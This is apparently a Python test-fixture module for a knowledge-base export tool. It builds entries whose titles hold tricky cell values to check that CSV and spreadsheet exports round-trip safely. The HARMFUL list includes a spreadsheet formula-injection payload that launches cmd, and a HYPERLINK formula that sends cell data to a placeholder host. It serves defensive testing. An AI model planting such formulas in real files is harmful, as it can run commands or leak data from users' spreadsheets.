"""The knowledge bases that tests export, and one whose entries hold what could do harm."""

from __future__ import annotations

import json
from functools import cache
from typing import TYPE_CHECKING

from speckb.corpus import loading, settings
from speckb.exchange import flat
from tests.conftest import GERMAN, KNOWLEDGE, SECOND
from tests.unit.lending import SLIPS, Lending

if TYPE_CHECKING:
    from pathlib import Path

    from speckb.corpus.corpus import Corpus
    from speckb.exchange.importing.source import Source

EPOCH = 1_190_246_400
BASES = {"main": KNOWLEDGE, "second": SECOND, "german": GERMAN}
EACH = ("main", "main 2026", "second", "german")
HARMFUL = [
    "=1+1",
    '=HYPERLINK("http://a.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+cmd",
    "-2+3",
    "@SUM(1)",
    "'=1",
    "''=1",
    "=",
    "'",
    "#REF!",
    "_x0041_ and _x000D_",
    "- item\n- item; \"quoted\", 'too'",
    "-5",
    "007",
    "1.10",
    "TRUE",
    "2026-09-30",
    "\uff1d1+1",
    "emoji \U0001f600 and <b>&amp;</b>",
]


@cache
def base(name: str) -> Corpus:
    """Return a knowledge base by name; after a blank, the edition of a view."""
    folder, _, edition = name.partition(" ")
    found = loading.load(settings.load(BASES[folder]))
    return found.at(edition) if edition else found


def harmful(root: Path) -> Corpus:
    """Return a knowledge base with a text of `HARMFUL` in each of its candidates."""
    lending = Lending(root)
    slips = lending.text(SLIPS)
    for number, text in enumerate(HARMFUL):
        own = slips.replace("id: paper-slips", f"id: slips-{number}").replace(
            "title: ", f"title: {json.dumps(text, ensure_ascii=False)}\n#", 1
        )
        lending.write(f"candidates/slips-{number}.md", own)
    return lending.corpus()


def long(root: Path, text: str) -> Corpus:
    """Return a knowledge base with an entry that has this text below its front matter."""
    lending = Lending(root)
    lending.write(SLIPS, f"{lending.text(SLIPS).rstrip()}\n\n{text}\n")
    return lending.corpus()


def differing(corpus: Corpus, found: Source) -> list[str]:
    """Return where the records of an export differ from the entries, as texts in cells."""
    records = {record.values["id"]: record for record in found.records}
    wrong = []
    if len(records) != len(found.records) or records.keys() != corpus.entries.keys():
        wrong.append("the ids are not the same")
    for kind in corpus.settings.types.values():
        columns = flat.columns(corpus, kind)
        for entry in corpus.by_type[kind.name]:
            record = records[entry.id]
            if record.kind != kind.name:
                wrong.append(f"{entry.id}: {record.kind}")
            values = dict(record.values)
            for column, value in zip(columns, flat.row(entry, columns), strict=True):
                expected = flat.cell(value, column.form)
                back = flat.cell(values.pop(column.name, None), flat.TEXT)
                if back != (expected if expected.strip() else ""):
                    wrong.append(f"{entry.id} {column.name}: {back!r}, not {expected!r}")
                is_text = bool(value) and isinstance(value, str | list | dict)
                if is_text and flat.value_of(back, column.form) != value:
                    wrong.append(f"{entry.id} {column.name}: {back!r} is read otherwise")
            wrong += [f"{entry.id} {name}: too much" for name in values]
    return wrong
